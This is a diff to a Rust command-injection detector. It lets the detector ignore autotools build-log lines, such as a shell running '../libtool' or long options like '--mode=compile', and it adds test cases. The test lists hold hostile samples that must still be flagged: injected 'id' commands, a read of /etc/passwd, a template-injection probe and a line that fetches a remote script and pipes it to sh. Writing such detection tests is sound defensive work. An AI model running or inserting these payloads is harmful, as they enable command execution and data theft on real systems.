@@ -2311,6 +2311,11 @@ fn check_command_at(
         return false;
     };
     let name = &norm[name_at..];
+    // `/bin/bash ../libtool --mode=compile ...`: a build log's shell running
+    // the build's own helper script.
+    if via_path && matches!(name, "sh" | "bash" | "dash") && build_helper(b, w.end, seg_end) {
+        return false;
+    }
     // `tr` filters text in countless documented pipelines; inside `$(...)`
     // in command position its output is what runs (`$(tr a-z n-za-m <<< x)`).
     if name == "tr" && ctx != Ctx::Subst {
@@ -3410,6 +3415,7 @@ fn scan_segment(
                     && i + 1 < seg_end
                     && b[i + 1] != b'='
                     && !tag_attribute(b, seg_start, i, seg_end)
+                    && !build_option(b, seg_start, i)
                 {
                     check_command(text, i + 1, i + 1, seg_end, Ctx::Start, hits);
                 }
@@ -3629,6 +3635,59 @@ fn quoted_in_sentence(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> b
                 && after.get(1).is_none_or(|c| *c == b' '));
         opened && prose_before && goes_on
     })
+}
+
+/// Whether the `=` at `eq` gives the value of a long option of a build
+/// tool (`--tag=RC`, `--mode=compile`): an option's value, not the start
+/// of a value that could hold a command line.
+fn build_option(b: &[u8], seg_start: usize, eq: usize) -> bool {
+    let mut s = eq;
+    while s > seg_start && eq - s < 32 && (b[s - 1].is_ascii_lowercase() || b[s - 1] == b'-') {
+        s -= 1;
+    }
+    s + 2 < eq
+        && b[s..].starts_with(b"--")
+        && (s == seg_start || matches!(b[s - 1], b' ' | b'\t'))
+        && matches!(
+            &b[s + 2..eq],
+            b"tag" | b"mode" | b"prefix" | b"host" | b"build" | b"target" | b"libdir" | b"srcdir"
+        )
+}
+
+/// Autotools helper scripts a build log shows a shell running.
+const BUILD_HELPERS: &[&[u8]] = &[
+    b"libtool",
+    b"configure",
+    b"config.status",
+    b"install-sh",
+    b"mkinstalldirs",
+    b"missing",
+    b"depcomp",
+    b"ylwrap",
+    b"compile",
+    b"test-driver",
+];
+
+/// Whether the first argument from `from` is a relative path to one of the
+/// build's [`BUILD_HELPERS`] (`../libtool`, `./config.status`,
+/// `../build-aux/install-sh`) followed by options or the end.
+fn build_helper(b: &[u8], from: usize, seg_end: usize) -> bool {
+    let i = skip_blank(b, from, seg_end);
+    let mut e = i;
+    while e < seg_end && e - i < 80 && !matches!(b[e], b' ' | b'\t' | b'\n' | b'\r') {
+        e += 1;
+    }
+    let arg = &b[i..e];
+    let base = arg.rsplit(|&c| c == b'/').next().unwrap_or(arg);
+    let relative = arg.starts_with(b"./") || arg.starts_with(b"../");
+    let dirs_ok = arg
+        .iter()
+        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'-' | b'_'));
+    let next = skip_blank(b, e, seg_end);
+    relative
+        && dirs_ok
+        && BUILD_HELPERS.contains(&base)
+        && (next >= seg_end || matches!(b[next], b'-' | b'\n'))
 }
 
 /// Whether the `|` at `p` separates alternatives in a parenthesised group
@@ -5377,6 +5436,8 @@ mod tests {
             "   usr/bin/{bunzip2,bzcat}",
             "the `{` character is escaped with `{{` and the `}` character with `}}`.",
             "gcc-2.95 and libc6-dev (<< 2.3)",
+            "/bin/bash ../libtool --tag=RC --mode=compile windres -o x.lo x.rc",
+            "/bin/sh ./config.status --recheck",
             "This sped up 'seq 10000000000 | grep . >/dev/null' by a factor of 3",
             "\tWith this change, \"printf '\\0'|diff - /dev/null\" now prints",
         ] {
@@ -5408,6 +5469,11 @@ mod tests {
             "{{`id`}}",
             "x `{{` {{ self.__init__.__globals__ }}",
             "a; gcc x.c (<< EOF",
+            "/bin/bash ../libtool; id",
+            "/bin/sh /tmp/x.sh",
+            "/bin/bash -c id",
+            "/bin/sh ../../tmp/configure.sh -x",
+            "x --exec=id",
             "The name is 'x | cat /etc/passwd' for now",
             "Try this 'a; curl http://203.0.113.9/x.sh | sh' now",
             "name=foo' | id #",
